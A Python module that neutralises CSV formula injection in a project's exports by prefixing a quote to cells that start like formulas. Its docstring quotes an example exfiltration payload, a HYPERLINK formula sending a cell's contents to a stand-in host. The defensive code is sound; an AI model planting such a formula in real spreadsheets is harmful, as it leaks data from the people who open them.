"""CSV cells a spreadsheet cannot run (OWASP "CSV injection").

Excel and LibreOffice treat a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (and a tab or carriage return in front of one still counts), so a student's
name or a free text such as ``=HYPERLINK("https://evil.example/?"&A1;"klik")`` would run
on the inspector's or coordinator's machine. OWASP's rule: put a single quote in front
of such a cell; the spreadsheet then shows the text as it is. Every CSV export of the
project writes through ``writer`` (or ``safe_cell``) from here.
"""
from __future__ import annotations

import csv
from typing import Any

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value, with a leading ``'`` when its text would start a formula.

    Numbers are written as they are (a negative number is data, not a formula);
    everything else is judged by its text."""
    if value is None or isinstance(value, bool | int | float):
        return value
    text = str(value)
    if text.startswith(FORMULA_START):
        return "'" + text
    return text


class _SafeWriter:
    def __init__(self, inner) -> None:
        self._inner = inner

    def writerow(self, row):
        return self._inner.writerow([safe_cell(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(out, **kwargs) -> _SafeWriter:
    """``csv.writer(out, **kwargs)`` whose cells are neutralised with ``safe_cell``."""
    return _SafeWriter(csv.writer(out, **kwargs))
